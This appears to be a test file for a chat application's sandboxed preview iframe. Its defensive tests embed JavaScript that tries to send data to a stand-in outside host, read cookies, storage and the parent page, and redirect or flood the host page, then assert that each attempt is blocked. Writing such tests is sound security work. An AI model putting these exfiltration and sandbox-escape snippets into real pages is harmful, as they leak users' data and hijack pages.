"""Previews of HTML, SVG and diagrams: a frame that shows them, and lets nothing of them out."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.core.provider import CallForm
from app.models.scripted import Scripted
from tests.support.page.browser import NARROW, REFUSED_PROBE, WIDE, browsing, expect, home, shot
from tests.support.page.chromium import BROWSER
from tests.support.page.elsewhere import elsewhere
from tests.support.page.stories import code_block, show_answer
from tests.support.server.serving import serving

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("chromium")]

# What a document tries, each with its name; it writes down what it got. `WHERE` is a server of somebody else.
TRIES = """
const got = {}, where = "http://WHERE", stun = (window) => {
  const peer = new window.RTCPeerConnection({ iceServers: [{ urls: "stun:WHERE" }] });
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => "offered");
};
const add = (name, props) => document.head.append(Object.assign(document.createElement(name), props));
const tries = {
  fetch: () => fetch(`${where}/fetch`, { mode: "no-cors" }).then(() => "sent"),
  api: () => fetch(new URL("/sessions", "OWN")).then(() => "sent"),
  beacon: () => `${navigator.sendBeacon(`${where}/beacon`, "x")}`,
  socket: () => new Promise((resolve, reject) =>
    Object.assign(new WebSocket(`ws://WHERE/socket`), { onopen: () => resolve("open"), onerror: reject })),
  image: () => new Promise((resolve, reject) =>
    Object.assign(new Image(), { src: `${where}/image`, onload: () => resolve("loaded"), onerror: reject })),
  style: () => new Promise((resolve, reject) =>
    add("link", { rel: "stylesheet", href: `${where}/style`, onload: () => resolve("loaded"), onerror: reject })),
  script: () => new Promise((resolve, reject) =>
    add("script", { src: `${where}/script`, onload: () => resolve("loaded"), onerror: reject })),
  hints: () => { for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender"])
    add("link", { rel, as: "image", href: `${where}/${rel}` }); },
  rules: () => add("script", { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`${where}/rules`] }] }) }),
  form: () => { const form = Object.assign(document.createElement("form"), { action: `${where}/form`, method: "post" });
    document.body.append(form); form.submit(); },
  ping: () => { const link = Object.assign(document.createElement("a"), { href: "#", ping: `${where}/ping` });
    document.body.append(link); link.click(); },
  popup: () => `${window.open(`${where}/popup`)}`,
  webrtc: () => stun(window),
  worker: () => new Promise((resolve, reject) => Object.assign(
    new Worker(URL.createObjectURL(new Blob([`fetch("${where}/worker").then(() => postMessage("sent"))`]))),
    { onmessage: ({ data }) => resolve(data), onerror: reject })),
  cookie: () => document.cookie,
  storage: () => `${localStorage.length}`,
  database: () => `${indexedDB.open("x")}`,
  parent: () => parent.document.title,
  top: () => { top.location = `${where}/top`; return "left"; },
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { got[name] = `${await attempt()}`; } catch (error) { got[name] = `! ${error?.name ?? error?.type}`; }
  }
  document.body.append(Object.assign(document.createElement("pre"), { id: "got", textContent: JSON.stringify(got) }));
})();
"""
LEAVING = "<script>onclick = () => { location = 'http://WHERE/location' }</script>Leave"
REFRESH = "<meta http-equiv=refresh content='0;url=http://WHERE/refresh'>Refreshing"
REFUSED = {"fetch", "api", "socket", "image", "style", "script", "webrtc", "worker"}
REFUSED |= {"cookie", "storage", "database", "parent", "top"}


async def test_a_preview_reaches_nothing(tmp_path: Path) -> None:
    async with elsewhere() as other:
        script = TRIES.replace("WHERE", other.address)
        answer = "".join(
            code_block("html", text.replace("WHERE", other.address))
            for text in (f"<body><script>{script}</script>", LEAVING, REFRESH)
        )
        scripted = Scripted([f"{answer}The end."], call_form=CallForm.NATIVE)
        async with serving(tmp_path, scripted) as served, browsing() as browser:
            browser.expected.append("")  # each of its tries is a complaint
            page = await browser.page(viewport=NARROW)
            await show_answer(page, home(served))
            await page.evaluate("localStorage.setItem('secret', 'x')")
            previews = page.get_by_role("button", name="Preview")
            await previews.first.click()
            frame = page.frame_locator("iframe").first
            got = json.loads(await frame.locator("#got").inner_text())
            assert {name: got[name] for name in REFUSED if not got[name].startswith("! ")} == {}, got
            assert got["popup"] == "null"
            note = page.locator(".artefact-note")
            await expect(note).to_have_text("A preview has no network: what this one loads from elsewhere is missing.")
            await previews.first.click()
            await page.frame_locator("iframe").nth(1).get_by_text("Leave").click()
            await previews.first.click()
            for left in page.frames[2:]:
                await left.wait_for_url("chrome-error://**")
            assert page.url.startswith(home(served)) and other.reached == []

            # The same script outside of the frame does get out: what is refused is seen here.
            context = await BROWSER.get().new_context()
            free = await context.new_page()
            few = script.replace(
                "Object.entries(tries)", "['fetch', 'image', 'webrtc'].map((name) => [name, tries[name]])"
            )
            await free.set_content(f"<body><script>{few}</script>")
            await free.locator("#got").wait_for()
            await context.close()
            assert {"/fetch", "/image", "a packet"} <= {*other.reached}


async def test_a_preview_at_the_side_reaches_nothing_either(tmp_path: Path) -> None:
    async with elsewhere() as other:
        script = TRIES.replace("WHERE", other.address)
        answer = code_block("html", f"<body><script>{script}</script>") + code_block("html", COUNTER)
        scripted = Scripted([f"{answer}The end.", "Another."], call_form=CallForm.NATIVE)
        async with serving(tmp_path, scripted) as served, browsing() as browser:
            browser.expected.append("")
            page = await browser.page(viewport=WIDE)
            await show_answer(page, home(served))
            panel, figures = page.locator("#panel"), page.locator("figure.code")
            first, second = (figures.nth(at).locator(".preview") for at in range(2))
            await first.click()
            await expect(figures.first.locator("pre")).to_be_visible()
            got = json.loads(await panel.frame_locator("iframe").locator("#got").inner_text())
            assert {name: got[name] for name in REFUSED if not got[name].startswith("! ")} == {}, got
            assert await panel.locator("iframe").get_attribute("sandbox") == "allow-scripts"
            assert other.reached == []
            await first.click()
            await expect(page.locator("iframe")).to_have_count(0)

            await second.click()
            await panel.frame_locator("iframe").get_by_role("button", name="Add").click()
            await shot(page, "artefact-aside")
            await expect(panel.frame_locator("iframe").locator("#n")).to_have_text("1")
            await first.click()  # takes its place
            await expect(page.locator("iframe")).to_have_count(1)
            await expect(second).to_have_attribute("aria-expanded", "false")
            await expect(first).to_have_attribute("aria-expanded", "true")
            await page.keyboard.press("Escape")
            await expect(panel).to_be_hidden()
            await expect(first).to_be_focused()
            await expect(first).to_have_attribute("aria-expanded", "false")
            await second.click()
            await expect(panel).to_be_visible()
            await page.keyboard.press("Control+Shift+O")
            await expect(panel).to_be_hidden()  # it was of the other conversation


PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><rect width="200" height="100"/></svg>'
COUNTER = """<title>x</title><button onclick="n.textContent++">Add</button> <b id="n">0</b><script>none()</script>"""


async def test_pages_pictures_and_diagrams_are_shown_beside_their_code(tmp_path: Path) -> None:
    diagrams = code_block("mermaid", "flowchart LR\n  A[Begin] --> B[End]") + code_block(
        "mermaid", "flowchart LR\n  A[Begin -->"
    )
    answer = f"{code_block('html', COUNTER)}{code_block('xml', PICTURE)}{diagrams}{code_block('xml', '<a/>')}The end."
    async with serving(tmp_path, Scripted([answer], call_form=CallForm.NATIVE)) as served, browsing() as browser:
        browser.expected += ["none is not defined", REFUSED_PROBE]
        page = await browser.page(color_scheme="dark", viewport=NARROW)
        await show_answer(page, home(served))
        code, previews = page.locator("figure.code"), page.get_by_role("button", name="Preview")
        await expect(previews).to_have_count(4)
        for at in range(4):
            await code.nth(at).get_by_role("button", name="Preview").dispatch_event("click")  # the last one grows yet
            await expect(code.nth(at).locator("pre")).to_be_hidden()
        frames = [one.frame_locator("iframe") for one in await code.all()]
        await frames[0].get_by_role("button", name="Add").click()
        await expect(frames[0].locator("#n")).to_have_text("1")
        await expect(code.nth(0).locator(".artefact-note")).to_contain_text("none is not defined")
        await expect(frames[1].locator("rect")).to_be_visible()
        await code.nth(1).scroll_into_view_if_needed()  # Chromium measures nothing in frames out of sight
        await expect(code.nth(1).locator(".artefact-frame")).to_have_css("height", "128px")
        await expect(frames[2].get_by_text("Begin")).to_be_visible()
        await expect(code.nth(3).locator(".artefact-note")).to_contain_text("The diagram has a mistake: Parse error")

        full = code.nth(0).get_by_role("button", name="Full size")
        await full.click()
        shown = page.get_by_role("dialog", name="Preview")
        await expect(shown.frame_locator("iframe").locator("#n")).to_have_text("1")  # it has not begun again
        await shot(page, "artefact-full")
        await page.keyboard.press("Escape")
        await expect(shown).to_have_count(0)
        await expect(full).to_be_focused()
        await expect(frames[0].locator("#n")).to_have_text("1")
        await code.nth(0).get_by_role("button", name="Reload").click()
        await expect(frames[0].locator("#n")).to_have_text("0")
        async with page.expect_download() as download:
            await code.nth(0).get_by_role("button", name="Download").click()
        saved = await download.value
        assert saved.suggested_filename == "html.html" and (await saved.path()).read_text() == COUNTER
        await shot(page, "artefacts")
        await code.nth(0).get_by_role("button", name="Show code").click()
        await expect(code.nth(0).locator("pre")).to_be_visible()
        await expect(code.nth(0).locator("iframe")).to_have_count(0)


LOUD = "<script>setInterval(() => { for (let n = 0; n < 999; n++) parent.postMessage({}, '*'); })</script>Loud"
GREEDY = "<input id=i><script>setInterval(() => i.focus(), 20)</script>"
RESTLESS = PICTURE.replace(
    "<rect",
    "<script>let n = 0; setInterval(() => {"
    "  n += 1; parent.postMessage({ artefact: { height: n % 2 ? 80 : 300 } }, '*');"
    "  if (n > 20) document.documentElement.id = 'over';"
    "}, 20)</script><rect",
)
AGAIN = """<input> <b>0</b><script>const again = () => parent.postMessage({ artefact: { ready: true } }, "*");
let n = 0; addEventListener("message", () => { document.querySelector("b").textContent = ++n; again(); }); again();
</script>"""


async def test_a_preview_neither_floods_the_page_nor_takes_its_focus(tmp_path: Path) -> None:
    parts = [
        ("html", LOUD),
        ("html", GREEDY),
        ("svg", RESTLESS),
        ("html", AGAIN),
        ("constructor", "x"),
    ]
    scripted = Scripted(["".join(code_block(*part) for part in parts) + "The end."], call_form=CallForm.NATIVE)
    async with serving(tmp_path, scripted) as served, browsing() as browser:
        browser.expected.append(REFUSED_PROBE)
        page = await browser.page(viewport=NARROW)
        await show_answer(page, home(served))
        code = page.locator("figure.code")
        await expect(page.get_by_role("button", name="Preview")).to_have_count(4)
        await code.nth(0).get_by_role("button", name="Preview").click()
        await expect(code.nth(0).locator(".artefact-note")).to_contain_text("flooded the page with messages")
        await expect(code.nth(0).locator("iframe")).to_have_count(0)
        await code.nth(0).get_by_role("button", name="Show code").click()
        await code.nth(1).get_by_role("button", name="Preview").click()
        await expect(code.nth(1).locator(".artefact-note")).to_contain_text("kept taking the keyboard focus")
        await expect(code.nth(1).get_by_role("button", name="Show code")).to_be_focused()
        await code.nth(2).get_by_role("button", name="Preview").click()
        frame = code.nth(2).locator(".artefact-frame")
        await expect(frame).to_have_css("height", "324px")
        await frame.evaluate("one => new ResizeObserver(() => one.classList.add(`h${one.offsetHeight}`)).observe(one)")
        await frame.frame_locator("iframe").locator("#over").wait_for()
        await expect(frame).to_have_class("artefact-frame h324")  # what stands below has not moved
        await code.nth(3).get_by_role("button", name="Preview").click()
        again = code.nth(3).frame_locator("iframe")
        await expect(again.locator("b")).to_have_text("4")
        await again.locator("input").click()
        await page.keyboard.type("of a person")  # who went there gets the focus
        await expect(again.locator("input")).to_have_value("of a person")


ODD = """async () => {
  const { Markdown } = await import("/page/js/markdown/markdown.js");
  const { DocumentText } = await import("/page/js/documents/document_text.js");
  const { endingOf } = await import("/page/js/text/file_language.js");
  const view = new Markdown(), named = new DocumentText("constructor");
  view.write(`${"|a".repeat(200)}|\\n${"|-".repeat(200)}|\\n${"|a\\n".repeat(50)}| a | b |\\n`);
  view.end();
  named.add("x = 1");
  named.close();
  const list = new Markdown(), watch = new MutationObserver(() => {});
  list.write("- a\\n- b\\n");
  watch.observe(list.element, { subtree: true, attributeFilter: ["dir"] });
  list.write("- c\\n");
  const turned = watch.takeRecords().length; // each makes the browser style all of the list again
  const cells = [...view.element.querySelectorAll("td")];
  const shown = named.element.textContent.includes("x = 1");
  return [cells.length, cells.at(-1).colSpan, shown, endingOf("constructor"), turned];
}"""


async def test_short_rows_of_wide_tables_and_odd_names_cost_nothing(tmp_path: Path) -> None:
    async with serving(tmp_path, Scripted([])) as served, browsing() as browser:
        page = await browser.page(viewport=NARROW)
        await page.goto(home(served))
        assert await page.evaluate(ODD) == [103, 198, True, "txt", 0]
